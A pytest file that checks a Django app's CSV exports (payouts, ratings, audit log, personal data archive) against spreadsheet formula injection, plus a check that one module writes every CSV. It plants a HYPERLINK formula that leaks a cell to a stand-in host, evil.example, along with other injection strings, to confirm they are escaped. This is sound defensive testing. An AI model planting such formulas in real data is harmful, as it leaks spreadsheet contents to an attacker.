"""One CSV writer (core/csv_export.py) serves every export, and none of them hands a spreadsheet a formula:
text that a tester or an admin typed (a display name, a reason, a title, a comment, a prompt, a version) is
written so that a spreadsheet shows it and never runs it."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.db.models import QuerySet
from django.utils import timezone

from access.export import export_build
from core.csv_export import csv_cell, csv_text
from feedback import model_versions, ratings, reports, showcase
from feedback.ledger import ledger_correct
from feedback.models import LedgerEntry, ModelVersion
from feedback.payouts import payout_csv, payout_run
from tests.feedback.conftest import finished_clip

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_guarded(text: str, planted: list[str], where: str) -> None:
    cells = _cells(text)
    for cell in cells:
        if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not re.fullmatch(r"-\d+(\.\d+)?", cell)):
            pytest.fail(f"{where}: a spreadsheet would run {cell!r}")
    for value in planted:
        assert any(cell.startswith("'" + value) for cell in cells), f"{where}: {value!r} is missing"


def test_a_cell_a_spreadsheet_would_run_is_written_as_text():
    assert [csv_cell(value) for value in ("=1+1", "+1", "-cmd", "@SUM(A1)", "\tx", "\rx", "plain", None)] == [
        "'=1+1",
        "'+1",
        "'-cmd",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "plain",
        "",
    ]
    assert [csv_cell(value) for value in (Decimal("-25.00"), -3, 1.5)] == [Decimal("-25.00"), -3, 1.5]
    assert csv_text(["a", "b"], [{"a": "=x", "b": Decimal("-1.00")}, ["-y", None]]) == "a,b\n'=x,-1.00\n'-y,\n"


def test_every_export_guards_what_people_typed(tester, admin_user, admin_client, programme, rates):
    tester.display_name = FORMULA
    tester.save(update_fields=["display_name"])
    version = model_versions.model_version_create(
        programme=programme, model_key="ltx-video", version="-1+cmd", actor=admin_user
    )
    model_versions.model_version_ship(model_version=version, actor=admin_user)
    ModelVersion.objects.filter(pk=version.pk).update(shipped_at=timezone.now() - timedelta(days=3))
    clip = finished_clip(tester, programme=programme, prompt="+a paper boat")
    rating = ratings.rating_save(
        job=clip, author=tester, prompt_adherence=4, motion=4, visual_quality=4, artefacts=4, comment="@SUM(1,2)"
    )
    ratings.rating_decide(rating=rating, accept=True, actor=admin_user)
    report = reports.report_file(reporter=tester, kind="bug", title="=1+2", steps="s", severity="high")
    reports.report_transition(report=report, to_state="confirmed", actor=admin_user)
    bug = LedgerEntry.objects.get(kind="bug")
    ledger_correct(entry=bug, points=-1, amount="-1", reason="-2+3 for a late answer", actor=admin_user)
    offer = showcase.showcase_offer(job=clip, artist=tester, credit_name="@credit")
    showcase.showcase_use_record(offer=offer, kind="screening", description="=screen", actor=admin_user)
    # As if all this happened two days ago, so that a finished period holds it (past the append-only guard).
    QuerySet(LedgerEntry).update(created_at=timezone.now() - timedelta(days=2))

    end = timezone.localdate() - timedelta(days=1)
    payout = payout_run(
        programme=programme, currency="USD", period_start=end - timedelta(days=7), period_end=end, actor=admin_user
    )
    _assert_guarded(payout_csv(payout), [FORMULA, "-2+3"], "payout CSV")
    response = admin_client.get(f"/manage/alpha/feedback/payouts/{payout.pk}.csv")
    _assert_guarded(response.content.decode(), [FORMULA, "-2+3"], "payout CSV download")
    response = admin_client.get("/manage/alpha/feedback/ratings/export.csv")
    _assert_guarded(response.content.decode(), ["-1+cmd"], "ratings CSV")
    response = admin_client.get("/manage/alpha/audit/export.csv")
    _assert_guarded(b"".join(response.streaming_content).decode(), ["-2+3"], "audit CSV")

    archive = zipfile.ZipFile(io.BytesIO(export_build(tester)))
    planted = {
        "jobs.csv": ["+a paper boat"],
        "ratings.csv": ["@SUM(1,2)"],
        "bug_reports.csv": ["=1+2"],
        "ledger.csv": ["-2+3"],
        "showcase.csv": ["@credit", "=screen"],
    }
    for name in (name for name in archive.namelist() if name.endswith(".csv")):
        _assert_guarded(archive.read(name).decode(), planted.get(name, []), name)


def test_no_csv_is_written_anywhere_but_the_one_writer():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for folder in ("core", "access", "generation", "feedback", "competition", "config", "bench")
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text())
    ]
    assert found == ["core/csv_export.py"]
